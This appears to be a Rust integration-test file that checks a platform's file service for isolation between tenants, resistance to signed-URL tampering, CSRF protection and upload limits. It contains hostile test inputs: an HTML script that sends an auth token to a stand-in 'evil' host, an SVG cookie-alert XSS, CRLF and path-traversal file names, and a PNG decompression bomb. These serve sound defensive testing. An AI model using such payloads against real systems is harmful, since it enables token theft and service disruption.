//! Files (the files product): a tenant of another namespace, its app users and its team
//! try to read, list, delete, sign or upload a namespace's files; an app user tries
//! another user's files and uploads; a team member uploads a page with script in it to
//! run it at the platform's origin; anybody bends a signed URL; an image that would
//! take the server's memory asks for a thumbnail.

use micro_test::call_json as call;
use micro_test::process::ServerProcess;
use serde_json::{Value, json};

use super::*;

/// A raw request to the gateway at `api`, in namespace `ns`, as the holder of `token`.
async fn send(
    api: &str,
    method: &str,
    path: &str,
    token: Option<&str>,
    ns: &str,
    extra: &[(&str, &str)],
    body: &[u8],
) -> micro_test::HttpResponse {
    let bearer = token.map(|t| format!("Bearer {t}"));
    let mut headers: Vec<(&str, &str)> = vec![("micro-namespace", ns)];
    if let Some(b) = &bearer {
        headers.push(("authorization", b));
    }
    headers.extend_from_slice(extra);
    micro_test::http(api, method, path, &headers, body).await
}

/// Turns app users on in `ns` (signing in unconfirmed) and signs one up: their token.
async fn signed_up(api: &str, admin: &str, ns: &str, email: &str) -> String {
    let lax = json!({"verify_before_login": false, "attempts_per_minute": 1000});
    let (st, v) = call(api, "POST", "/users/v1/settings", Some(admin), ns, Some(lax)).await;
    assert_eq!(st, 200, "{v}");
    let creds = json!({"email": email, "password": "a long enough password"});
    assert_eq!(call(api, "POST", "/users/v1/signup", None, ns, Some(creds.clone())).await.0, 200);
    let (st, v) = call(api, "POST", "/users/v1/login", None, ns, Some(creds)).await;
    assert_eq!(st, 200, "{v}");
    v["token"].as_str().expect("a token").to_string()
}

/// A PNG's bytes: the signature, an `IHDR` of `w`×`h` (8-bit grey) and `idat` as its data.
fn png_claiming(w: u32, h: u32, idat: &[u8]) -> Vec<u8> {
    fn crc(data: &[u8]) -> u32 {
        let mut c = 0xffff_ffffu32;
        for b in data {
            c ^= u32::from(*b);
            for _ in 0..8 {
                c = if c & 1 == 1 { 0xedb8_8320 ^ (c >> 1) } else { c >> 1 };
            }
        }
        !c
    }
    let chunk = |kind: &[u8], data: &[u8]| {
        let mut out = (data.len() as u32).to_be_bytes().to_vec();
        let body = [kind, data].concat();
        out.extend_from_slice(&body);
        out.extend_from_slice(&crc(&body).to_be_bytes());
        out
    };
    let ihdr = [w.to_be_bytes().as_slice(), h.to_be_bytes().as_slice(), &[8, 0, 0, 0, 0]].concat();
    [b"\x89PNG\r\n\x1a\n".as_slice(), &chunk(b"IHDR", &ihdr), &chunk(b"IDAT", idat), &chunk(b"IEND", b"")].concat()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nobody_reaches_a_namespaces_files_but_who_it_lets() {
    let s = ServerProcess::start(&micro(), &[("MICRO_SMTP", "log")]);
    let ann = s.account("shop", "ann", "user", &["admin"]).await;
    let mallet = s.account("blog", "mallet", "user", &["admin"]).await;
    let zoe = signed_up(&s.api, &ann, "shop", "zoe@example.com").await;
    let mallory = signed_up(&s.api, &mallet, "blog", "mallory@example.com").await;
    let eve = signed_up(&s.api, &ann, "shop", "eve@example.com").await;
    let (st, _) =
        call(&s.api, "POST", "/files/v1/settings", Some(&ann), "shop", Some(json!({"app_uploads": true}))).await;
    assert_eq!(st, 200);
    let secret = b"zoe's private notes".to_vec();
    let up = send(
        &s.api,
        "POST",
        "/files/v1/files?name=notes.txt",
        Some(&zoe),
        "shop",
        &[("content-type", "text/plain")],
        &secret,
    )
    .await;
    assert_eq!(up.status, 200, "{}", up.body);
    let file = up.json();
    let (id, url) = (file["id"].as_str().unwrap().to_string(), file["url"].as_str().unwrap().to_string());

    // Another namespace's app user and admin, through every door: the content by its
    // address, the file's record, the list, a delete, a signed URL, an upload.
    for (who, token) in [("blog's app user", &mallory), ("blog's admin", &mallet), ("shop's other user", &eve)] {
        for ns in ["shop", "blog"] {
            let r = send(&s.api, "GET", &url, Some(token), ns, &[], b"").await;
            assert!([401, 403, 404].contains(&r.status), "{who} acting in {ns} reads the content: {}", r.body);
            assert!(!r.bytes.windows(secret.len()).any(|w| w == secret), "{who}");
            let r = send(&s.api, "GET", &format!("/files/v1/files/{id}"), Some(token), ns, &[], b"").await;
            assert!(r.status == 404 || r.status == 401 || r.status == 403, "{who} in {ns}: {}", r.body);
            let r = send(&s.api, "GET", "/files/v1/files", Some(token), ns, &[], b"").await;
            assert!(!r.body.contains(&id), "{who} in {ns} lists it: {}", r.body);
            let r = send(&s.api, "DELETE", &format!("/files/v1/files/{id}"), Some(token), ns, &[], b"").await;
            assert!(r.status >= 400, "{who} in {ns} deletes it: {}", r.body);
            let r = send(&s.api, "POST", &format!("/files/v1/files/{id}/url"), Some(token), ns, &[], b"{}").await;
            assert!(r.status >= 400, "{who} in {ns} signs it: {}", r.body);
        }
    }
    let into = send(&s.api, "POST", "/files/v1/files?name=x.txt", Some(&mallet), "shop", &[], b"planted").await;
    assert!(into.status == 401 || into.status == 403, "blog's admin uploads into shop: {}", into.body);
    let into = send(&s.api, "POST", "/files/v1/files?name=x.txt", Some(&mallory), "shop", &[], b"planted").await;
    assert!(into.status == 401 || into.status == 403, "blog's app user uploads into shop: {}", into.body);
    // Nor may a shop user change the settings to let themselves in further.
    let (st, _) =
        call(&s.api, "POST", "/files/v1/settings", Some(&eve), "shop", Some(json!({"max_total": 1_073_741_824}))).await;
    assert_eq!(st, 403);
    let r = send(&s.api, "GET", &url, Some(&ann), "shop", &[], b"").await;
    assert_eq!((r.status, r.bytes), (200, secret.clone()), "the file is still there");

    // Signed URLs: only the one signed works; moved to another namespace, another file,
    // a later expiry or without its signature, nothing.
    let (st, v) =
        call(&s.api, "POST", &format!("/files/v1/files/{id}/url"), Some(&zoe), "shop", Some(json!({"expires_in": 60})))
            .await;
    assert_eq!(st, 200, "{v}");
    let signed = v["url"].as_str().unwrap().to_string();
    assert_eq!(micro_test::http(&s.api, "GET", &signed, &[], b"").await.status, 200);
    let (exp, sig) = (v["expires"].as_u64().unwrap(), signed.rsplit("sig=").next().unwrap().to_string());
    for bent in [
        signed.replace("/content/shop/", "/content/blog/"),
        signed.replace(&format!("expires={exp}"), &format!("expires={}", exp + 86_400)),
        signed.replace(&sig, &sig.chars().rev().collect::<String>()),
        signed.replace(&format!("&sig={sig}"), ""),
        format!("{signed}&sig=x"),
        url.replace("/content/shop/", "/content/../shop/"),
    ] {
        let r = micro_test::http(&s.api, "GET", &bent, &[], b"").await;
        assert!(r.status >= 400, "{bent}: {}", r.status);
        assert!(!r.bytes.windows(secret.len()).any(|w| w == secret), "{bent}");
    }
    // Blog's key signs nothing of shop's: a URL made in blog for shop's file id finds
    // no file there.
    let (st, _) =
        call(&s.api, "POST", &format!("/files/v1/files/{id}/url"), Some(&mallet), "blog", Some(json!({}))).await;
    assert_eq!(st, 404);

    // Somebody else's resumable upload, and chunks that lie about their range.
    let (st, v) =
        call(&s.api, "POST", "/files/v1/uploads", Some(&zoe), "shop", Some(json!({"size": 10, "name": "a.bin"}))).await;
    assert_eq!(st, 200, "{v}");
    let upload = format!("/files/v1/uploads/{}", v["id"].as_str().unwrap());
    let r = send(&s.api, "PUT", &upload, Some(&eve), "shop", &[("content-range", "bytes 0-9/10")], b"0123456789").await;
    assert_eq!(r.status, 404, "{}", r.body);
    let r =
        send(&s.api, "PUT", &upload, Some(&mallet), "shop", &[("content-range", "bytes 0-9/10")], b"0123456789").await;
    assert!(r.status == 404 || r.status == 401 || r.status == 403, "{}", r.body);
    for (range, body) in [
        ("bytes 0-9/10", &b"short"[..]),
        ("bytes 0-19/20", b"01234567890123456789"),
        ("bytes 0-99/10", b"0123456789"),
        ("0-9", b"0123456789"),
    ] {
        let r = send(&s.api, "PUT", &upload, Some(&zoe), "shop", &[("content-range", range)], body).await;
        assert_eq!(r.status, 400, "{range}: {}", r.body);
    }
    for name in ["../../x", "/etc/passwd", "a\u{0}b"] {
        let (st, v) =
            call(&s.api, "POST", "/files/v1/uploads", Some(&zoe), "shop", Some(json!({"size": 10, "name": name})))
                .await;
        assert_eq!(st, 400, "{name}: {v}");
    }
    let _ = s.stop();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_uploaded_page_runs_nothing_at_the_platforms_origin_and_a_bomb_takes_no_memory() {
    let s = ServerProcess::start(&micro(), &[("MICRO_SMTP", "log")]);
    let ann = s.account("shop", "ann", "user", &["admin"]).await;
    let steal =
        b"<html><script>fetch('/auth/token').then(r=>r.text()).then(t=>new Image().src='//evil/'+t)</script></html>";
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.cookie)</script></svg>";
    for (name, ct, body) in
        [("x.html", "text/html", &steal[..]), ("x.svg", "image/svg+xml", &svg[..]), ("x.png", "text/html", &steal[..])]
    {
        let path = format!("/files/v1/files?name={name}&public=true");
        let r = send(&s.api, "POST", &path, Some(&ann), "shop", &[("content-type", ct)], body).await;
        assert_eq!(r.status, 200, "{name}: {}", r.body);
        let f: Value = r.json();
        let got = micro_test::http(&s.api, "GET", f["url"].as_str().unwrap(), &[], b"").await;
        assert_eq!(got.status, 200, "{name}");
        let disposition = got.header("content-disposition").unwrap_or("");
        assert!(disposition.starts_with("attachment"), "{name} is downloaded, not shown: {}", got.head);
        assert_eq!(got.header("x-content-type-options"), Some("nosniff"), "{name}");
        assert!(got.header("content-security-policy").unwrap_or("").contains("sandbox"), "{name}: {}", got.head);
        assert!(
            !got.header("content-type").unwrap_or("").starts_with("text/html") || disposition.starts_with("attachment")
        );
    }
    // A name that would break the header, and one that is a path.
    for name in ["a%0d%0aSet-Cookie:%20x=1", "..%2F..%2Fetc%2Fpasswd", "%2Fabs"] {
        let r = send(&s.api, "POST", &format!("/files/v1/files?name={name}"), Some(&ann), "shop", &[], b"x").await;
        assert_eq!(r.status, 400, "{name}: {}", r.body);
    }

    // An image that says it is 60 000 pixels a side: its thumbnail is refused at once
    // (nothing decoded), and the server goes on serving.
    let bomb = png_claiming(60_000, 60_000, &[0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01]);
    let r = send(
        &s.api,
        "POST",
        "/files/v1/files?name=bomb.png",
        Some(&ann),
        "shop",
        &[("content-type", "image/png")],
        &bomb,
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body);
    let f: Value = r.json();
    let thumb =
        send(&s.api, "GET", &format!("{}?thumb=100x100", f["url"].as_str().unwrap()), Some(&ann), "shop", &[], b"")
            .await;
    assert_eq!(thumb.status, 400, "{}", thumb.body);
    let (st, _) = call(&s.api, "GET", "/files/v1/settings", Some(&ann), "shop", None).await;
    assert_eq!(st, 200, "the server goes on");
    let _ = s.stop();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cookie_alone_writes_nothing_and_floods_of_fields_thumbnails_and_parts_are_held() {
    let s = ServerProcess::start(&micro(), &[("MICRO_SMTP", "log")]);
    let ann = s.account("shop", "ann", "user", &["admin"]).await;
    let zoe = signed_up(&s.api, &ann, "shop", "zoe@example.com").await;
    let cookie = format!("micro-token={ann}");

    // Another site's page makes the admin's browser send requests with its cookie, as
    // simple requests (no namespace header, no JSON type): nothing is written.
    let settings = br#"{"app_uploads": true, "max_total": 1073741824}"#;
    for (method, path, ct, body) in [
        ("POST", "/files/v1/settings", "text/plain", &settings[..]),
        ("POST", "/files/v1/files?name=x.txt", "text/plain", &b"planted"[..]),
        ("POST", "/apps/v1/apps/shop/deploys", "text/plain", &b"x"[..]),
        ("DELETE", "/files/v1/files/aaaaaaaaaaaaaaaaaaaa", "text/plain", &b""[..]),
    ] {
        let r = micro_test::http(&s.api, method, path, &[("cookie", &cookie), ("content-type", ct)], body).await;
        assert_eq!(r.status, 403, "{method} {path}: {}", r.body);
        assert!(r.body.contains("cookie alone"), "{}", r.body);
    }
    let (st, v) = call(&s.api, "GET", "/files/v1/settings", Some(&ann), "shop", None).await;
    assert_eq!((st, &v["app_uploads"]), (200, &json!(false)), "{v}");

    let (st, _) = call(
        &s.api,
        "POST",
        "/files/v1/settings",
        Some(&ann),
        "shop",
        Some(json!({"app_uploads": true, "max_file_size": 200_000, "max_total": 600_000})),
    )
    .await;
    assert_eq!(st, 200);
    // A form field of 100 kB (a file name, say; the whole form within the upload's room):
    // refused at its 4 kB, not held in memory.
    let boundary = "xyzzy";
    let mut body = format!("--{boundary}\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\n").into_bytes();
    body.extend(std::iter::repeat_n(b'a', 100_000));
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    let ct = format!("multipart/form-data; boundary={boundary}");
    let r = send(&s.api, "POST", "/files/v1/files", Some(&zoe), "shop", &[("content-type", &ct)], &body).await;
    assert_eq!(r.status, 400, "{}", r.body);
    assert!(r.body.contains("size limit"), "{}", r.body);

    // Thumbnails only of the namespace's sizes (each is kept): a sweep of sizes is refused.
    // A real 1×1 PNG.
    let png: &[u8] = &[
        137, 80, 78, 71, 13, 10, 26, 10, 0, 0, 0, 13, 73, 72, 68, 82, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 31, 21,
        196, 137, 0, 0, 0, 13, 73, 68, 65, 84, 120, 218, 99, 100, 96, 248, 95, 15, 0, 2, 135, 1, 128, 235, 71, 186,
        146, 0, 0, 0, 0, 73, 69, 78, 68, 174, 66, 96, 130,
    ];
    let path = "/files/v1/files?name=pic.png&public=true";
    let r = send(&s.api, "POST", path, Some(&ann), "shop", &[("content-type", "image/png")], png).await;
    assert_eq!(r.status, 200, "{}", r.body);
    let f = r.json();
    let url = f["url"].as_str().expect("a url").to_string();
    for size in ["101x101", "1x1", "2000x2000", "200x199"] {
        let r = micro_test::http(&s.api, "GET", &format!("{url}?thumb={size}"), &[], b"").await;
        assert_eq!(r.status, 400, "{size}: {}", r.body);
    }
    assert_eq!(micro_test::http(&s.api, "GET", &format!("{url}?thumb=100x100"), &[], b"").await.status, 200);
    // Who uploaded a public file is the team's to know, not the public's.
    let r = micro_test::http(
        &s.api,
        "GET",
        &format!("/files/v1/files/{}", f["id"].as_str().expect("an id")),
        &[("micro-namespace", "shop")],
        b"",
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body);
    let seen = r.json();
    assert!(seen["owner"].as_str().unwrap_or("").is_empty() && seen["record"].is_null(), "{seen}");

    // Unfinished resumable uploads hold no more than the namespace may: the parts count.
    let mut refused = false;
    for i in 0..5 {
        let (st, up) = call(
            &s.api,
            "POST",
            "/files/v1/uploads",
            Some(&zoe),
            "shop",
            Some(json!({"size": 200_000, "name": format!("p{i}.bin")})),
        )
        .await;
        if st == 413 {
            refused = true;
            break;
        }
        assert_eq!(st, 200, "{up}");
        let upload = format!("/files/v1/uploads/{}", up["id"].as_str().expect("an id"));
        let chunk = vec![7u8; 199_999];
        let r = send(&s.api, "PUT", &upload, Some(&zoe), "shop", &[("content-range", "bytes 0-199998/200000")], &chunk)
            .await;
        if r.status == 413 {
            refused = true;
            break;
        }
        assert_eq!(r.status, 200, "{}", r.body);
    }
    assert!(refused, "five unfinished uploads of 200 kB in a namespace of 600 kB");
    let _ = s.stop();
}
